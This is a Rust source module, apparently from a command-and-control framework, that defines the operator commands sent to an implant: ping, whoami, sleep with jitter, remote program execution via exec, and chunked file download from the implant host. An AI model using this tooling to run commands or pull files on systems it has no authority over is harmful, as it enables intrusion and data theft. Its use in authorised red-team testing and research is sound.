//! Built-in operations registered at start-up.
//!
//! Each one is a thin typed wrapper over a `TaskRequest` plus the parser
//! and formatter for its response body.

use prost::Message;
use serde_json::{Value, json};

use corsair_proto::v1::{
    DownloadResponse, ExecResponse, PingResponse, SleepResponse, Spite, Task, WhoamiResponse,
};

use crate::bridge::{
    AdaptationError, BoundArgs, CallArgument, FunctionRegistry, FunctionSpec, InvokeContext,
    Param, ParamKind, invoker,
};
use crate::error::Result;

/// Chunk size used by `download` (and its `get` alias) when none is given.
pub const DEFAULT_CHUNK_SIZE: i64 = 1024 * 1024;

/// Register every built-in operation.
pub fn register_builtins(functions: &FunctionRegistry) -> Result<()> {
    functions.register(ping())?;
    functions.register(whoami())?;
    functions.register(sleep())?;
    functions.register(exec())?;
    functions.register(download())?;
    Ok(())
}

fn decode<M: Message + Default>(spite: &Spite) -> std::result::Result<M, String> {
    M::decode(spite.body.as_slice()).map_err(|e| format!("malformed {} body: {e}", spite.name))
}

fn ping() -> FunctionSpec {
    FunctionSpec::new(
        "ping",
        invoker(|ctx, _| async move { ctx.execute(ctx.request("ping")).await }),
    )
    .summary("Check that the implant answers")
    .parser(|spite| {
        let resp: PingResponse = decode(spite)?;
        Ok(json!({ "nonce": resp.nonce }))
    })
    .formatter(|v| format!("pong (nonce {})", v["nonce"]))
}

fn whoami() -> FunctionSpec {
    FunctionSpec::new(
        "whoami",
        invoker(|ctx, _| async move { ctx.execute(ctx.request("whoami")).await }),
    )
    .summary("Identity of the implant process")
    .parser(|spite| {
        let resp: WhoamiResponse = decode(spite)?;
        Ok(json!({
            "username": resp.username,
            "hostname": resp.hostname,
            "uid": resp.uid,
            "groups": resp.groups,
        }))
    })
    .formatter(|v| {
        let groups: Vec<&str> = v["groups"]
            .as_array()
            .map(|g| g.iter().filter_map(Value::as_str).collect())
            .unwrap_or_default();
        format!(
            "{}@{} uid={} groups={}",
            v["username"].as_str().unwrap_or_default(),
            v["hostname"].as_str().unwrap_or_default(),
            v["uid"],
            groups.join(","),
        )
    })
}

async fn send_sleep(ctx: InvokeContext, args: BoundArgs) -> Result<Task> {
    let interval = args.int("interval")?;
    let jitter = args.float("jitter")?;
    if interval < 0 || !(0.0..=1.0).contains(&jitter) {
        return Err(AdaptationError::Binder {
            function: "sleep".into(),
            message: "interval must be >= 0 and jitter within 0..=1".into(),
        }
        .into());
    }
    let mut request = ctx.request("sleep");
    request.params.insert("interval".into(), interval.to_string());
    request.params.insert("jitter".into(), jitter.to_string());
    ctx.execute(request).await
}

fn sleep() -> FunctionSpec {
    FunctionSpec::new("sleep", invoker(send_sleep))
        .summary("Change the implant check-in interval")
        .param(Param::required("interval", ParamKind::Int))
        .param(Param::optional("jitter", ParamKind::Float, CallArgument::Float(0.0)))
        .parser(|spite| {
            let resp: SleepResponse = decode(spite)?;
            Ok(json!({ "interval_secs": resp.interval_secs, "jitter": resp.jitter }))
        })
        .formatter(|v| {
            format!(
                "check-in interval {}s, jitter {}",
                v["interval_secs"], v["jitter"]
            )
        })
}

async fn send_exec(ctx: InvokeContext, args: BoundArgs) -> Result<Task> {
    let mut request = ctx.request("exec");
    request.args.push(args.str("path")?.to_string());
    request.args.extend(args.str_list("args")?);
    ctx.execute(request).await
}

fn exec() -> FunctionSpec {
    FunctionSpec::new("exec", invoker(send_exec))
        .summary("Run a program on the implant host")
        .param(Param::required("path", ParamKind::Str))
        .param(Param::optional(
            "args",
            ParamKind::StrList,
            CallArgument::List(Vec::new()),
        ))
        .requires_module("exec")
        .binder(bind_exec)
        .parser(|spite| {
            let resp: ExecResponse = decode(spite)?;
            Ok(json!({
                "stdout": resp.stdout,
                "stderr": resp.stderr,
                "status_code": resp.status_code,
                "pid": resp.pid,
            }))
        })
        .formatter(|v| {
            let mut out = String::new();
            for stream in ["stdout", "stderr"] {
                let text = v[stream].as_str().unwrap_or_default();
                if !text.is_empty() {
                    out.push_str(text.trim_end());
                    out.push('\n');
                }
            }
            out.push_str(&format!("exit status {} (pid {})", v["status_code"], v["pid"]));
            out
        })
}

/// `exec prog a b c` arrives as four words; the signature wants the program
/// and one list. An explicit `(prog, [..])` pair passes through.
fn bind_exec(raw: Vec<CallArgument>) -> std::result::Result<Vec<CallArgument>, String> {
    let mut raw = raw.into_iter();
    let Some(program) = raw.next() else {
        return Err("missing program to run".into());
    };
    let rest: Vec<CallArgument> = raw.collect();
    match rest.as_slice() {
        [CallArgument::List(_)] => Ok(std::iter::once(program).chain(rest).collect()),
        _ => Ok(vec![program, CallArgument::List(rest)]),
    }
}

async fn send_download(ctx: InvokeContext, args: BoundArgs) -> Result<Task> {
    let chunk_size = args.int("chunk_size")?;
    if chunk_size <= 0 {
        return Err(AdaptationError::Binder {
            function: "download".into(),
            message: "chunk_size must be positive".into(),
        }
        .into());
    }
    let mut request = ctx.request("download");
    request.args.push(args.str("path")?.to_string());
    request
        .params
        .insert("chunk_size".into(), chunk_size.to_string());
    ctx.execute(request).await
}

fn download() -> FunctionSpec {
    FunctionSpec::new("download", invoker(send_download))
        .summary("Fetch a file from the implant host")
        .param(Param::required("path", ParamKind::Str))
        .param(Param::optional(
            "chunk_size",
            ParamKind::Int,
            CallArgument::Int(DEFAULT_CHUNK_SIZE),
        ))
        .alias("get", 1)
        .requires_module("download")
        .parser(|spite| {
            let resp: DownloadResponse = decode(spite)?;
            Ok(json!({
                "path": resp.path,
                "size": resp.size,
                "checksum": resp.checksum,
                "local_path": resp.local_path,
            }))
        })
        .formatter(|v| {
            format!(
                "downloaded {} ({} bytes, checksum {}) to {}",
                v["path"].as_str().unwrap_or_default(),
                v["size"],
                v["checksum"].as_str().unwrap_or_default(),
                v["local_path"].as_str().unwrap_or_default(),
            )
        })
}
